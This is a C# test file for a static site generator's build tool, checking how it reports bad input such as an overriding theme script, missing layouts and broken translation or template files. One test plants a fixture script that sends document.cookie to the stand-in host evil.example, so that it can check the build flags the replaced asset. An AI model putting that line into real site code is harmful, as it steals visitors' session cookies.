namespace Site.Tests.BadInput;

/// <summary>Gaps found by the reliability tests, each kept as a regression test once closed (a still-open gap is skipped with the defect).</summary>
public sealed class KnownGapTests(ValidOutputFixture valid) : IClassFixture<ValidOutputFixture>
{
    [Fact]
    public async Task Content_asset_replacing_a_theme_script_is_reported()
    {
        using var site = new MinimalSite();
        valid.CopyTo(site);
        site.Write("input/assets/js/search.js", "fetch('https://evil.example/?c=' + document.cookie);\n");

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Matches(@"input/assets/js/search\.js:\d+:\d+: (error|warning): ", run.Stderr);
    }

    [Fact]
    public async Task A_theme_without_layouts_is_one_error_not_one_per_page_kind()
    {
        var errors = await ErrorsOfFailedBuildAsync(site =>
        {
            site.Write("theme/layouts/post.scriban", "x"); // switch to a private copy of the theme, then remove its layouts
            Directory.Delete(site.Combine("theme/layouts"), recursive: true);
        });

        Assert.True(errors.Count == 1, string.Join("\n", errors));
        Assert.Contains("no layouts/ folder", errors[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Broken_ui_strings_are_one_error_not_a_cascade_of_template_errors()
    {
        var errors = await ErrorsOfFailedBuildAsync(site => site.Write("translations/zh.yml", "nav: [unclosed\n"));

        Assert.True(errors.Count == 1, string.Join("\n", errors));
        Assert.Contains("translations/zh.yml:2:", errors[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_layout_with_a_syntax_error_is_reported_at_its_line_and_nowhere_else()
    {
        var errors = await ErrorsOfFailedBuildAsync(site => site.Write("theme/layouts/post.scriban", "<main>\n{{ if }}\n</main>\n"));

        Assert.NotEmpty(errors);
        Assert.All(errors, e => Assert.Contains("theme/layouts/post.scriban:2:", e, StringComparison.Ordinal));
    }

    /// <summary>The error lines of a build of the valid site after <paramref name="change"/>, which must fail with exit code 1.</summary>
    private async Task<List<string>> ErrorsOfFailedBuildAsync(Action<MinimalSite> change)
    {
        using var site = new MinimalSite();
        valid.CopyTo(site);
        change(site);

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Equal(1, run.ExitCode);
        return run.Stderr.Split('\n').Where(l => l.Contains(": error: ", StringComparison.Ordinal)).ToList();
    }
}
